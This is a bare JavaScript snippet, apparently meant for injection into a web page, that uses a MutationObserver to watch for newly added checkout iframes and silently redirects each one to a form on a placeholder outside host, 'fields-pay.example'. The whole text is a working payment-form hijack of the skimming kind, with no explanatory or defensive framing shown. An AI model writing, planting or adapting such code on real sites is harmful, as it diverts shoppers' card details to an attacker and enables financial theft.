new MutationObserver(function (changes) {
  changes.forEach(function (c) {
    [].forEach.call(c.addedNodes, function (n) {
      if (n.nodeName === 'IFRAME' && n.src.indexOf('checkout') > 0) n.setAttribute('src', 'https://fields-pay.example/form');
    });
  });
}).observe(document.body, { childList: true, subtree: true });
